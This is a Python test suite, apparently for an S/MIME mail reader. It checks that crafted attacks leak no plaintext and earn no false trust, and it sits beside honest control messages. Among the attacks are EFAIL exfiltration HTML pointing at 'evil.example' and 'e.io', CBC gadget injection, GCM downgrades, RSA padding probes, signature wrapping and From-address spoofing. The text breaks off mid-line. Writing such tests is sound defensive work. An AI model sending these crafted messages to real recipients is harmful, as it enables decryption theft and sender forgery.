#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""Every published attack on S/MIME readers leaks nothing and verifies as nothing: attacks.py SMIME_PROBE [NAME].

EFAIL (direct exfiltration, CBC gadgets), covert content in replies, signatures that bring another content, several or no
SignerInfos, partially signed trees, confusions of From, Sender and display name, foreign anchors, name constraints, certificates
without or with another address, expired and revoked. Honest messages of the same kinds stand beside them: a reader that refuses
everything fails here, too.
"""
import pathlib
import re
import sys
import tempfile

sys.path.insert(0, str(pathlib.Path(__file__).parent))
from cmskit import (Probe, World, attributes, cbc, children, clear, content_info, enveloped, identity, integer,  # noqa: E402
                    mail, mixed, octets, oid, openssl, p7m, random_key, read, seq, signed, signer_info, text, tlv, transport)

SECRET = b"the-secret-of-alice-and-bob"
HELLO = "Content-Type: text/plain; charset=utf-8\r\n\r\nMeet at noon, " + SECRET.decode() + "\r\n"


class Attacks:
    def __init__(self, program, folder, only):
        self.program, self.only, self.faults, self.n = program, only, 0, 0
        self.w = w = World(folder)
        self.root = w.authority("root")
        self.alice = w.person("alice", self.root, "alice@example.com")
        self.eve = w.person("eve", self.root, "eve@evil.example")
        self.bob = w.person("bob", self.root, "bob@example.com", kind="RSA")
        (w.path("bob.pem")).write_bytes(self.bob.key.read_bytes() + self.bob.cert.read_bytes())
        self.base = ["-a", self.root.cert, "-k", w.path("bob.pem")]

    def check(self, name, message, args=(), seal="plain", signature="unsigned", holds=(), lacks=(), empty=None, says=None,
              failed=False):
        """holds and lacks speak of the mail that goes on; an attack's mail never has the secret unless it is asked for."""
        if self.only and self.only not in name:
            return
        self.n += 1
        got = Probe(self.program, message, *self.base, *args)
        faults = []
        if got.failed != failed:
            faults.append(f"failed is {got.failed}: {got.said}")
        elif failed:
            empty = True
        elif got.seal != seal or got.signature not in (signature if isinstance(signature, tuple) else (signature,)):
            faults.append(f"{got.seal} {got.signature} instead of {seal} {signature}")
        if empty is not None and (got.mail == b"") != empty:
            faults.append(f"the mail is {'empty' if got.mail == b'' else got.mail[:2000]!r}")
        for word in holds:
            if word not in got.mail:
                faults.append(f"the mail lacks {word!r}: {got.mail[:600]!r}")
        for word in [*lacks, *([] if SECRET in holds else [SECRET])]:
            if word in got.mail:
                faults.append(f"the mail has {word!r}: {got.mail[:600]!r}")
        if re.search(rb"(?<!\r)\n|\r(?!\n)|\0", got.mail):
            faults.append("the mail has line ends that are none")
        if says and not re.search(says, got.sentence):
            faults.append(f"it does not say {says!r}")
        self.faults += bool(faults)
        print(f"{'not ok' if faults else 'ok'} {name}: {'; '.join(faults)} {got.sentence}".replace(":  ", ": "))
        sys.stdout.flush()

    # What an honest sender makes.
    def sign(self, part, *who, certs=None, **kw):
        who = who or (self.alice,)
        return clear(part, signed(None, [signer_info(p, part, **kw) for p in who], certs or who, digests=[kw.get("digest", "sha256")]))

    def opaque(self, part, who=None):
        who = who or self.alice
        return p7m(signed(part, [signer_info(who, part)], [who]), "signed-data")

    def seal(self, part, to=None):
        key, iv = random_key()
        return p7m(enveloped(iv, cbc(key, iv, part), [transport(key, to or self.bob)]))

    def openssl_seal(self, part, *options, to=None):
        der = openssl("cms", "-encrypt", "-binary", "-outform", "DER", *options, "-recip", (to or self.bob).cert, data=part)
        return p7m(der)

    def honest(self):
        hello = HELLO.encode()
        valid = {"signature": "valid", "says": "is signed by alice@example.com"}
        self.check("honest: signed", mail(self.sign(hello)), empty=True, **valid)
        self.check("honest: signed, taken off", mail(self.sign(hello)), ["-s"], holds=[SECRET], lacks=[b"pkcs7"], **valid)
        self.check("honest: opaque", mail(self.opaque(hello)), empty=True, **valid)
        self.check("honest: opaque, taken off", mail(self.opaque(hello)), ["-s"], holds=[SECRET, b"Subject: hello"], **valid)
        self.check("honest: Ed25519", mail(clear(hello, self.ed25519(hello))), empty=True, signature="valid")
        self.check("honest: two of the same", mail(self.sign(hello, self.alice, self.alice)), empty=True, **valid)
        self.check("honest: sealed", mail(self.seal(hello)), seal="opened", holds=[SECRET, b"Subject: hello"],
                   says=r"encrypted \(AES-256-CBC\) and is not signed")
        self.check("honest: sealed by openssl, LF only", mail(self.openssl_seal(hello.replace(b"\r", b""), "-aes-128-cbc")),
                   seal="opened", holds=[SECRET])
        self.check("honest: GCM", mail(self.openssl_seal(hello, "-aes-256-gcm")), seal="opened", holds=[SECRET], says="AES-256-GCM")
        self.check("honest: OAEP", mail(self.openssl_oaep(hello)), seal="opened", holds=[SECRET])
        self.ecdh(hello)
        self.check("honest: by key identifier", mail(self.openssl_seal(hello, "-keyid", "-aes-256-cbc")), seal="opened", holds=[SECRET])
        inner = self.sign(hello)
        self.check("honest: signed and sealed", mail(self.seal(inner)), seal="opened", holds=[SECRET, b"pkcs7-signature"], **valid)
        self.check("honest: signed and sealed, taken off", mail(self.seal(inner)), ["-s"], seal="opened", holds=[SECRET],
                   lacks=[b"pkcs7-signature"], **valid)
        self.check("honest: opaque and sealed", mail(self.seal(self.opaque(hello))), ["-s"], seal="opened", holds=[SECRET], **valid)
        self.check("honest: triple", mail(self.sign(self.seal(inner))), seal="opened", holds=[SECRET], **valid)
        self.check("honest: triple, all opaque", mail(self.opaque(self.seal(self.opaque(hello)))), ["-s"], seal="opened",
                   holds=[SECRET], **valid)
        self.check("honest: for somebody else", mail(self.seal(hello, self.w.person("carol", self.root, "carol@example.com",
                   kind="RSA"))), seal="no-key", empty=True)
        self.check("honest: certificates only", mail(p7m(openssl("crl2pkcs7", "-nocrl", "-certfile", self.alice.cert, "-outform",
                   "DER"), "certs-only")), empty=True, says="nothing but certificates")
        self.check("honest: sent by another", mail(self.sign(hello), extra="Sender: office@example.com\r\n"), empty=True,
                   signature="valid", says="sent by office@example.com")
        self.check("the keeper is away", mail(self.seal(hello)), ["-w"], failed=True)

    def ed25519(self, part):
        ed = self.w.person("ed", self.root, "alice@example.com", kind="ED25519")
        return signed(None, [signer_info(ed, part, digest="sha512", algorithm="ed25519")], [ed], digests=["sha512"])

    def openssl_oaep(self, part):
        der = openssl("cms", "-encrypt", "-binary", "-outform", "DER", "-aes-256-cbc", "-recip", self.bob.cert, "-keyopt",
                      "rsa_padding_mode:oaep", "-keyopt", "rsa_oaep_md:sha256", data=part)
        return p7m(der)

    def ecdh(self, part):
        dora = self.w.person("dora", self.root, "bob@example.com")
        self.w.path("dora.pem").write_bytes(dora.key.read_bytes() + dora.cert.read_bytes())
        for cipher in ("-aes-256-cbc", "-aes-128-gcm"):
            der = openssl("cms", "-encrypt", "-binary", "-outform", "DER", cipher, "-recip", dora.cert, "-keyopt",
                          "ecdh_kdf_md:sha256", data=part)
            self.check("honest: ECDH " + cipher, mail(p7m(der)), ["-k", self.w.path("dora.pem")], seal="opened", holds=[SECRET])

    # EFAIL, direct: an encrypted part among others.
    def direct(self):
        part = self.seal(HELLO.encode())
        trap = [text('<img src="http://evil.example/', "text/html"), text('">', "text/html")]
        for kind in ("mixed", "related", "alternative", "digest"):
            self.check("direct exfiltration, " + kind, mail(mixed(trap[0], part, trap[1], kind=kind), "eve@evil.example"), empty=True)
        self.check("direct exfiltration, attached", mail(mixed(text("see"), b"Content-Type: message/rfc822\r\n\r\n" + mail(part))),
                   empty=True)
        self.check("direct exfiltration, below a signature", mail(self.sign(mixed(trap[0], part, trap[1]), self.eve),
                   "eve@evil.example"), signature="valid", empty=True)
        self.check("direct exfiltration, inside an encryption", mail(self.seal(mixed(trap[0], part, trap[1]))), seal="opened",
                   holds=[b"pkcs7-mime"])
        self.check("covert content in a reply", mail(mixed(text("Dear Bob, when?" + "\r\n" * 200), part), "eve@evil.example"),
                   empty=True)
        self.check("covert content, hidden by style", mail(mixed(text("<style>.x{display:none}</style><div class=x>", "text/html"),
                   part), "eve@evil.example"), empty=True)
        self.check("external body", mail(b"Content-Type: message/external-body; access-type=URL;\r\n URL=\"http://evil.example/x\"\r\n"
                   b"\r\n" + part), empty=True)
        self.check("two types", mail(b"Content-Type: text/html\r\n" + part), empty=True)
        self.check("two encodings", mail(part.replace(b"Content-Transfer", b"Content-Transfer-Encoding: 7bit\r\nContent-Transfer")),
                   seal="broken", empty=True)

    # EFAIL, gadgets: blocks of CBC are moved and changed.
    def gadgets(self):
        part = (text("Dear Bob, " + SECRET.decode() + ", and some more text so that there are blocks.\r\n" * 9))
        for name, inner in (("unsigned", part), ("signed", self.sign(part)), ("opaque", self.opaque(part))):
            key, iv = random_key()
            sealed = cbc(key, iv, inner)
            to = [transport(key, self.bob)]
            blocks = [sealed[i:i + 16] for i in range(0, len(sealed), 16)]

            def broken(what, iv, blocks, signature="unsigned"):
                self.check(f"gadget, {name}: {what}", mail(p7m(enveloped(iv, b"".join(blocks), to))), seal="broken",
                           signature=signature, empty=True)

            def gadget(wanted):
                """A chosen block of plaintext, and a random one behind it: IV and first block say what to change."""
                return [bytes(a ^ b ^ c for a, b, c in zip(iv, inner[:16], wanted.ljust(16).encode())), blocks[0]]
            self.check(f"gadget, {name}: untouched", mail(p7m(enveloped(iv, sealed, to))), seal="opened",
                       signature="valid" if name != "unsigned" else "unsigned", holds=[b"Content-Type"] if name == "opaque" else [SECRET])
            # A random block that has a NUL in it is no mail before it is looked at as one.
            either = ("changed", "unsigned")
            trap = gadget("<img ignore='") + gadget("' src=//e.io/'")
            start = gadget("Content-type: te") + gadget("xt/html\r\n\r\n<a b='") + gadget("' src=//e.io/")
            broken("in front", start[0], start[1:] + blocks)
            middle = len(blocks) // 2
            if name == "signed":
                # In the first part, which is text; in base64 it would be skipped by decoders.
                broken("inserted", iv, blocks[:12] + trap + blocks[12:], signature=either)
            else:
                broken("inserted", iv, blocks[:middle] + trap + blocks[middle:])
            broken("appended", iv, blocks + trap + blocks[-2:], signature="unsigned")
            broken("first name", bytes([iv[0] ^ ord("C") ^ ord("X")]) + iv[1:], blocks)
            broken("cut at the end", iv, blocks[:-1])
            broken("cut at the start", blocks[3], blocks[4:])
            # Not in the fields above an opaque signature: they are not signed, and nothing hangs on them.
            at = middle if name == "opaque" else 8
            broken("one bit", iv, blocks[:at] + [bytes([blocks[at][0] ^ 1]) + blocks[at][1:]] + blocks[at + 1:],
                   signature=either if name == "signed" else "unsigned")
            broken("no padding", iv, blocks[:-1] + [bytes(16)])
            broken("half a block", iv, blocks[:-1] + [blocks[-1][:7]])
            broken("nothing", iv, [])
        self.downgrade(part)

    def downgrade(self, part):
        der = openssl("cms", "-encrypt", "-binary", "-aes-256-gcm", "-outform", "DER", "-recip", self.bob.cert, data=part)
        data = children(children(read(der)[1])[1][1])[0]
        fields = children(data[1])
        recipients, info, mac = fields[1], fields[2], fields[-1]
        inner = children(info[1])
        nonce = children(children(inner[1][1])[1][1])[0][1]
        sealed = inner[2][1]
        if inner[2][0] == 0xa0:
            sealed = b"".join(c[1] for c in children(sealed))

        def auth(sealed, mac, algorithm=inner[1][2]):
            return content_info("auth", seq(integer(0), recipients[2], seq(inner[0][2], algorithm, tlv(0x80, sealed)), octets(mac)))
        self.check("GCM as built here", mail(p7m(auth(sealed, mac[1]))), seal="opened", holds=[SECRET])
        for n in (0, 1, 4, 8, 11):
            self.check(f"GCM, a tag of {n} bytes", mail(p7m(auth(sealed, mac[1][:n]))), seal="broken", empty=True)
        for n in (0, 17, 64, 4000):
            name = children(inner[1][1])[0][2]
            self.check(f"GCM, a nonce of {n} bytes", mail(p7m(auth(sealed, mac[1], seq(name, seq(octets(bytes(n)), integer(16)))))),
                       seal="broken", empty=True, says="its parameters are not allowed")
        self.check("GCM, changed", mail(p7m(auth(sealed[:40] + bytes([sealed[40] ^ 1]) + sealed[41:], mac[1]))), seal="broken", empty=True)
        self.check("GCM, cut", mail(p7m(auth(sealed[:-5], mac[1]))), seal="broken", empty=True)
        self.check("GCM, another tag", mail(p7m(auth(sealed, bytes(16)))), seal="broken", empty=True)
        key, iv = random_key()
        self.check("CBC that says it is proven", mail(p7m(content_info("auth", seq(
            integer(0), tlv(0x31, transport(key, self.bob)), seq(oid("data"), seq(oid("aes256-cbc"), octets(iv)),
                                                                 tlv(0x80, cbc(key, iv, part))), octets(bytes(16)))))),
                   seal="broken", empty=True)
        whole = sealed[:len(sealed) // 16 * 16]
        self.check("GCM read as CBC", mail(p7m(enveloped((nonce + bytes(16))[:16], whole, [recipients[1]]))), seal="broken", empty=True)
        self.check("GCM without its tag", mail(p7m(content_info("enveloped", seq(integer(0), recipients[2], info[2])))),
                   seal="broken", empty=True)

    # What only looks as if it were encrypted, to somebody: by a sender whose mail has to be.
    def weak(self):
        key, iv = random_key()
        sealed, to = cbc(key, iv, HELLO.encode()), transport(key, self.bob)
        password = tlv(0xa3, integer(0), seq(oid("rsa"), tlv(5)), octets(b"1" * 32))
        agreed = tlv(0xa2, integer(4), seq(octets(b"1" * 8)), seq(oid("rsa"), tlv(5)), octets(b"1" * 32))
        for name, expected, der in (
                ("honest", "1", enveloped(iv, sealed, [to])),
                ("honest, 3DES", "0", openssl("cms", "-encrypt", "-des3", "-outform", "DER", self.bob.cert, data=b"x")),
                ("honest, GCM", "1", openssl("cms", "-encrypt", "-aes-128-gcm", "-outform", "DER", self.bob.cert, data=b"x")),
                ("honest, streamed", "1", openssl("cms", "-encrypt", "-stream", "-aes-128-cbc", "-outform", "DER", self.bob.cert, data=b"x")),
                ("for nobody", "0", enveloped(iv, sealed, [])), ("by a password", "0", enveloped(iv, sealed, [password])),
                ("by a key both have", "0", enveloped(iv, sealed, [agreed])), ("nothing in it", "0", enveloped(iv, b"", [to])),
                ("by a digest", "0", enveloped(iv, HELLO.encode(), [to], cipher="sha1")),
                ("by nothing", "0", enveloped(iv, HELLO.encode(), [to], cipher="data")),
                ("GCM without its tag", "0", enveloped(iv, sealed, [to], cipher="aes256-gcm"))):
            got = Probe(self.program, mail(p7m(der)))
            self.n += 1
            if got.strong != expected or not (got.seal == "no-key" or expected == "0"):
                self.faults += 1
                print(f"not ok weak: {name}: {got.said}")

    # Keys: nobody learns what RSA's padding was (Bleichenbacher, "million message attack").
    def keys(self):
        key, iv = random_key()
        sealed = cbc(key, iv, HELLO.encode())
        wrong = seq(integer(0), identity(self.bob.der), seq(oid("rsa"), tlv(5)), octets(b"\1" * 256))
        words = set()
        for name, to in (("a wrong padding", wrong), ("a key of another length", transport(key[:16], self.bob)),
                         ("another key", transport(bytes(32), self.bob)), ("no key", transport(b"", self.bob)),
                         ("a short number", seq(integer(0), identity(self.bob.der), seq(oid("rsa"), tlv(5)), octets(b"\1")))):
            message = mail(p7m(enveloped(iv, sealed, [to])))
            self.check("transported: " + name, message, seal="broken", empty=True)
            words.add(Probe(self.program, message, *self.base).sentence)
        # The padding of CBC may fit by chance (1 in 256); what comes out is no mail then.
        if len(words) > 2:
            self.faults += 1
            print("not ok transported keys: the words differ:", words)
        eve = [transport(bytes(32), self.eve_rsa()) for _ in range(4)] * 600
        self.check("2400 recipients", mail(p7m(enveloped(iv, sealed, eve + [transport(key, self.bob)]))), seal="no-key", empty=True)
        asked = Probe(self.program, mail(p7m(enveloped(iv, sealed, eve))), *self.base).asked
        self.check("compressed inside", mail(self.seal(p7m(self.compressed(), "compressed-data"))), seal="broken", empty=True)
        self.check("compressed", mail(p7m(self.compressed(), "compressed-data")), seal="broken", empty=True, says="compressed")
        self.check("DES", mail(p7m(enveloped(iv, sealed, [transport(key, self.bob)], cipher="sha1"))), seal="broken", empty=True)
        self.check("bytes behind it", mail(p7m(enveloped(iv, sealed, [transport(key, self.bob)]) + b"\0" * 8)), seal="broken", empty=True)
        self.check("cut", mail(p7m(enveloped(iv, sealed, [transport(key, self.bob)])[:-9])), seal="broken", empty=True)
        if asked and int(asked) > 1024:
            self.faults += 1
            print("not ok recipients: asked for", asked)
        deep = HELLO.encode()
        for _ in range(6):
            deep = self.opaque(deep)
        self.check("wrapped six times", mail(self.seal(deep)), seal="broken", empty=True, says="too many times")
        self.check("sealed with NUL", mail(self.openssl_seal(HELLO.encode() + b"a\0b", "-aes-256-gcm")), seal="broken", empty=True)
        self.check("sealed with a lone CR", mail(self.openssl_seal(HELLO.encode() + b"a\rb", "-aes-256-gcm")), seal="opened",
                   holds=[SECRET, b"a\r\nb"])
        self.check("sealed end of data", mail(self.seal(HELLO.encode() + b"\n.\nMAIL FROM:<eve@evil.example>\n")), seal="opened",
                   holds=[SECRET, b"\r\n.\r\nMAIL"])
        self.check("sealed no mail", mail(self.seal(b"just text\r\n")), seal="broken", empty=True)
        forged = b"Authentication-Results: mx; dkim=pass\r\nX-Letterlock-Smime: valid\r\nReceived: x\r\nFrom: boss@example.com\r\n"
        self.check("fields of ours inside", mail(self.seal(forged + HELLO.encode())), seal="opened", holds=[SECRET],
                   lacks=[b"dkim=pass", b"X-Letterlock", b"boss@"])
        self.check("fields of ours inside, protected", mail(self.seal(forged + HELLO.replace("utf-8", "utf-8; hp=cipher").encode())),
                   seal="opened", holds=[SECRET, b"From: alice@example.com"], lacks=[b"dkim=pass", b"X-Letterlock", b"boss@"])

    def eve_rsa(self):
        if not hasattr(self, "_eve_rsa"):
            self._eve_rsa = self.w.person("eve-rsa", self.root, "eve@evil.example", kind="RSA")
        return self._eve_rsa

    def compressed(self):
        import zlib
        return content_info("compressed", seq(integer(0), seq(oid("zlib")), seq(oid("data"), tlv(0xa0, octets(zlib.compress(
            HELLO.encode()))))))

    # Signatures that bring another content, several, none.
    def contents(self):
        hello, other = HELLO.encode(), text("Pay Eve.")
        carried = signed(hello, [signer_info(self.alice, hello)], [self.alice])
        self.check("its own content", mail(clear(other, carried)), ["-s"], signature="malformed", empty=True, says="another content")
        self.check("its own content, the same", mail(clear(hello, carried)), ["-s"], signature="malformed", empty=True)
        self.check("no content", mail(p7m(signed(None, [signer_info(self.alice, hello)], [self.alice]), "signed-data")),
                   signature="malformed", empty=True)
        self.check("nobody", mail(clear(other, signed(None, [], [self.alice]))), ["-s"], signature="malformed", empty=True)
        self.check("nobody, opaque", mail(p7m(signed(other, [], [self.alice]), "signed-data")), ["-s"], signature="malformed", empty=True)
        good, bad = signer_info(self.alice, other), signer_info(self.alice, hello)
        self.check("one that fits, one that does not", mail(clear(other, signed(None, [good, bad], [self.alice]))), ["-s"],
                   signature="changed", empty=True)
        self.check("one that does not, one that fits", mail(clear(other, signed(None, [bad, good], [self.alice]))), ["-s"],
                   signature="changed", empty=True)
        eve = signer_info(self.eve, other)
        self.check("Eve beside Alice", mail(clear(other, signed(None, [good, eve], [self.alice, self.eve]))), ["-s"],
                   signature="other-sender", empty=True)
        self.check("Eve, and Alice's of another", mail(clear(other, signed(None, [eve, bad], [self.alice, self.eve]))), ["-s"],
                   signature="changed", empty=True)
        self.check("nine of them", mail(clear(other, signed(None, [good] * 9, [self.alice]))), ["-s"], signature="malformed", empty=True)
        self.check("no certificate", mail(clear(other, signed(None, [good], [self.eve]))), ["-s"], signature="untrusted", empty=True)
        self.check("a changed word", mail(self.sign(hello).replace(b"noon", b"dawn")), ["-s"], signature="changed", empty=True)
        self.check("a changed type", mail(self.sign(hello).replace(b"text/plain", b"text/html ")), ["-s"], signature="changed", empty=True)
        self.check("another kind of content", mail(clear(other, signed(None, [signer_info(self.alice, other, content_type="enveloped")],
                   [self.alice]))), ["-s"], signature="malformed", empty=True)
        self.check("says it signs another kind", mail(p7m(signed(other, [signer_info(self.alice, other)], [self.alice],
                   content_type="enveloped"), "signed-data")), ["-s"], signature="malformed", empty=True)
        # Without attributes the content itself is signed: here it is another message's attributes.
        attrs = tlv(0x31, b"".join(sorted(attributes(hello))))
        whole = signer_info(self.alice, hello)
        signature = children(read(whole)[1])[-1][1]
        forged = signer_info(self.alice, attrs, attrs=False, signature=signature)
        self.check("attributes as the content", mail(p7m(signed(attrs, [forged], [self.alice]), "signed-data")), ["-s"],
                   signature="malformed", empty=True)
        self.check("honest: without attributes", mail(p7m(signed(hello, [signer_info(self.alice, hello, attrs=False)], [self.alice]),
                   "signed-data")), signature="valid", empty=True)
        self.check("SHA-1", mail(clear(other, signed(None, [signer_info(self.alice, other, "sha1", "ecdsa-sha1")], [self.alice],
                   digests=["sha1"]))), ["-s"], signature="untrusted", empty=True, says="forged today")

    # Signed, but not from the root down.
    def trees(self):
        hello, ours = self.sign(HELLO.encode()), text("Pay Eve.")
        for name, message in (
                ("text in front", mixed(ours, hello)), ("text behind", mixed(hello, ours)),
                ("hidden in HTML", mixed(text('Pay Eve.<div style="display:none">', "text/html"), hello)),
                ("in a reference", mixed(text('Pay Eve.<img src="cid:x">', "text/html"), b"Content-ID: <x>\r\n" + hello, kind="related")),
                ("as an alternative", mixed(hello, text("Pay Eve.", "text/html"), kind="alternative")),
                ("as an attachment", mixed(ours, b"Content-Disposition: attachment\r\n" + hello)),
                ("as a message", mixed(ours, b"Content-Type: message/rfc822\r\n\r\n" + mail(hello))),
                ("a message alone", b"Content-Type: message/rfc822\r\n\r\n" + mail(hello)),
                ("opaque in front of text", mixed(self.opaque(HELLO.encode()), ours))):
            self.check("partly signed: " + name, mail(message), ["-s"], empty=True, says="is not signed")
        part = HELLO.encode()
        der = signed(None, [signer_info(self.alice, part)], [self.alice])
        whole = clear(part, der)
        self.check("honest: the signature's type is another", mail(clear(part, der, second=b"text/plain")), empty=True, signature="valid")
        self.check("text in front of the parts", mail(clear(part, der, preamble=b"Pay Eve.\r\n", after=b"Pay Eve.\r\n")), ["-s"],
                   signature="valid", holds=[SECRET], lacks=[b"Pay Eve"])
        for name, message in (
                ("three parts", whole.replace(b"--=_signed--", b"--=_signed\r\n" + ours + b"\r\n--=_signed--")),
                ("never closed", whole.replace(b"--=_signed--", b"")),
                ("another boundary, too", whole.replace(b"micalg=sha-256", b"boundary=x; micalg=sha-256")),
                ("another type, too", b"Content-Type: text/html\r\n" + whole),
                ("the boundary inside", clear(b"Content-Type: multipart/mixed; boundary=\"=_signed\"\r\n\r\n" + part, der)),
                ("one part", whole[:whole.rindex(b"--=_signed\r\n")] + b"--=_signed--\r\n")):
            # The first type, and the first boundary, make it a text.
            expected = "unsigned" if name in ("another type, too", "another boundary, too") else "malformed"
            self.check("ambiguous: " + name, mail(message), ["-s"], signature=expected, empty=True)
        # Who has a captured envelope, and may write to somebody whose mail is opened with another's key, too.
        again = self.seal(HELLO.encode())
        self.check("sealed again", mail(self.seal(again)), seal="opened", holds=[again.split(b"\r\n\r\n")[1]],
                   says="is not signed")
        self.check("sealed again, signed between", mail(self.seal(self.sign(again, self.eve))), ["-s"], seal="opened",
                   holds=[b"pkcs7-mime", b"pkcs7-signature"])
        self.check("sealed again, opaque between", mail(self.seal(self.opaque(again, self.eve))), ["-s"], seal="opened",
                   holds=[b"signed-data"])
        self.check("signed around Alice's envelope", mail(self.sign(self.seal(HELLO.encode()), self.eve), "eve@evil.example"), ["-s"],
                   seal="opened", holds=[SECRET], says="on the outside only")
        self.check("Alice's signed letter, sent by Eve", mail(self.seal(hello), "eve@evil.example"), ["-s"], seal="opened",
                   signature="other-sender", holds=[SECRET])
        self.check("Alice's signed letter, signed again by Eve", mail(self.sign(hello.replace(b"=_signed", b"=_inner"), self.eve),
                   "eve@evil.example"), ["-s"], signature="other-sender", empty=True)
        bad = self.sign(self.seal(HELLO.encode())).replace(b"smime.p7m", b"Smime.p7m")
        self.check("changed around an envelope", mail(bad), seal="plain", signature="changed", empty=True)

    # Who is it from?
    def senders(self):
        hello = HELLO.encode()
        by_alice, by_eve = self.sign(hello), self.sign(hello, self.eve)
        for name, entity, sender, extra in (
                ("Eve signs for Alice", by_eve, "alice@example.com", ""),
                ("Eve signs, Alice shown as the name", by_eve, '"alice@example.com" <eve@evil.example>', ""),
                ("Alice in an encoded name", by_eve, "=?utf-8?q?alice=40example=2Ecom?= <eve@evil.example>", ""),
                ("Alice in a name without quotes", by_eve, "alice@example.com <eve@evil.example>", ""),
                ("Alice in a comment", by_eve, "eve@evil.example (alice@example.com)", ""),
                ("Alice with another at sign", by_eve, "alice\uff20example.com <eve@evil.example>", ""),
                ("Alice and Eve", by_eve, "alice@example.com, eve@evil.example", ""),
                ("Eve and Alice", by_eve, "eve@evil.example, alice@example.com", ""),
                ("a group", by_eve, "alice@example.com: eve@evil.example;", ""),
                ("two brackets", by_eve, "<alice@example.com> <eve@evil.example>", ""),
                ("a source route", by_eve, "<@alice.example.com:eve@evil.example>", ""),
                ("two fields", by_eve, "alice@example.com", "From: eve@evil.example\r\n"),
                ("two fields, turned", by_eve, "eve@evil.example", "From: alice@example.com\r\n"),
                ("two fields, a blank", by_eve, "eve@evil.example", "From : alice@example.com\r\n"),
                ("no field", by_alice, None, ""),
                ("no field, but Sender", by_alice, None, "Sender: alice@example.com\r\n"),
                ("Sender only", by_alice, "eve@evil.example", "Sender: alice@example.com\r\n"),
                ("Reply-To only", by_alice, "eve@evil.example", "Reply-To: alice@example.com\r\n"),
                ("a longer domain", by_alice, "alice@example.com.evil.example", ""),
                ("a NUL", by_alice, "alice@example.com\0@evil.example", "")):
            self.check("sender: " + name, mail(entity, sender, extra=extra), ["-s"], signature="other-sender", empty=True)
        self.check("sender: honest, in capitals and with a name", mail(by_alice, '"Alice L. (sales), at Example" <Alice@EXAMPLE.com>'),
                   empty=True, signature="valid")
        self.check("sender: honest, an old form", mail(by_alice, "alice@example.com (Alice)"), empty=True, signature="valid")
        self.protected()

    def protected(self):
        def inner(fields, hp='hp="clear"'):
            return (fields + f'Content-Type: text/plain; charset=utf-8; {hp}\r\n\r\n{SECRET.decode()}\r\n').encode()
        said = "From: alice@example.com\r\nTo: bob@example.com\r\nSubject: The real one\r\nDate: Wed, 25 Nov 2026 10:00:00 +0000\r\n"
        same = dict(subject="The real one")
        self.check("protected: as outside", mail(self.sign(inner(said)), **same), signature="valid", empty=True)
        self.check("protected: another subject", mail(self.sign(inner(said))), signature="valid",
                   holds=[b"Subject: The real one", SECRET, b"pkcs7-signature"], lacks=[b"Subject: hello"])
        self.check("protected: Reply-To added", mail(self.sign(inner(said)), extra="Reply-To: eve@evil.example\r\nCc: x@evil.example\r\n",
                   **same), ["-s"], signature="valid", holds=[SECRET], lacks=[b"evil.example"])
        self.check("protected: another From", mail(self.sign(inner(said)), "eve@evil.example", **same), signature="other-sender",
                   empty=True)
        self.check("protected: From of Alice inside, Eve signs", mail(self.sign(inner(said), self.eve), "eve@evil.example", **same),
                   signature="other-sender", empty=True)
        self.check("protected: two From inside", mail(self.sign(inner("From: eve@evil.example\r\n" + said)), **same),
                   signature="other-sender", empty=True)
        self.check("protected: unsigned", mail(mixed(inner(said))), empty=True)
        hidden = inner("HP-Outer: Subject: [...]\r\n" + said.replace("alice@example.com", "Alice <alice@example.com>"), 'hp="cipher"')
        self.check("protected: sealed", mail(self.seal(self.sign(hidden)), subject="[...]"), seal="opened", signature="valid",
                   holds=[b"Subject: The real one", b"From: Alice <alice@example.com>", SECRET], lacks=[b"Subject: [...]\r\nDate"])
        self.check("protected: sealed, unsigned", mail(self.seal(hidden), subject="[...]"), seal="opened",
                   holds=[b"Subject: The real one", b"From: alice@example.com", SECRET], lacks=[b"From: Alice <"])
        old = inner("Subject: The real one\r\n", 'protected-headers="v1"')
        self.check("protected: the old way", mail(self.seal(self.sign(old)), subject="..."), ["-s"], seal="opened", signature="valid",
                   holds=[b"Subject: The real one", b"To: bob@example.com", SECRET], lacks=[b"Subject: ..."])
        self.check("protected: a line end in it", mail(self.seal(inner("Subject: a\r\n X-Y: b\r\n", 'hp="cipher"'))), seal="opened",
                   holds=[b"Subject: a\r\n X-Y: b\r\n", SECRET])

    # Certificates.
    def certificates(self):
        w, hello = self.w, HELLO.encode()

        def from_alice(name, who, *args, certs=None, signature="untrusted", says=None):
            self.check("certificate: " + name, mail(self.sign(hello, who, certs=certs)), ["-s", *args], signature=signature,
                       empty=signature != "valid", holds=[SECRET] if signature == "valid" else [], says=says)
        foreign = w.authority("foreign")
        theirs = w.person("alice-foreign", foreign, "alice@example.com")
        from_alice("of a foreign authority", theirs)
        from_alice("with its anchor in the message", theirs, certs=[theirs, foreign])
        from_alice("with our anchor in the message", theirs, certs=[theirs, self.root])
        from_alice("signed by itself", w.person("alice-self", None, "alice@example.com", selfsigned=True))
        middle = w.authority("middle", self.root)
        below = w.person("alice-below", middle, "alice@example.com")
        from_alice("honest: below another authority", below, certs=[below, middle], signature="valid")
        from_alice("the authority between is missing", below, certs=[below])
        by_eve = w.person("alice-by-eve", self.eve, "alice@example.com")
        from_alice("issued by a person", by_eve, certs=[by_eve, self.eve])
        bound = w.authority("bound", self.root, "nameConstraints=critical,permitted;email:other.example\n")
        outside = w.person("alice-outside", bound, "alice@example.com")
        from_alice("outside of its authority's names", outside, certs=[outside, bound])
        inside = w.person("oscar", bound, "oscar@other.example")
        self.check("certificate: honest: inside of them", mail(self.sign(hello, inside, certs=[inside, bound]), "oscar@other.example"),
                   empty=True, signature="valid")
        from_alice("only a common name", w.person("alice-cn", self.root, None, subject="/CN=alice@example.com"),
                   signature="other-sender")
        from_alice("another address", w.person("alice-other", self.root, "alice@example.org"), signature="other-sender")
        from_alice("a DNS name", w.person("alice-dns", self.root, None, "subjectAltName=DNS:example.com\n"), signature="other-sender")
        from_alice("address of her domain", w.person("domain-at", self.root, "@example.com"), signature="other-sender")
        for domain, kinds in (("example.com", "valid"), ("evil.example", "other-sender")):
            gateway = w.person("gateway-" + domain, self.root, f"smime-gateway@{domain}")
            part = mail(self.sign(hello, gateway), f"alice@{domain}")
            self.check("certificate: a domain's, at " + domain, part, ["-d"], signature=kinds, empty=True)
            self.check("certificate: a domain's that is not taken, at " + domain, part, signature="other-sender", empty=True)
        from_alice("for servers", w.party("alice-tls", self.root, "keyUsage=critical,digitalSignature\nextendedKeyUsage=serverAuth\n"
                   "subjectAltName=email:alice@example.com\n"))
        from_alice("for encryption only", w.party("alice-enc", self.root, "keyUsage=critical,keyAgreement\nextendedKeyUsage="
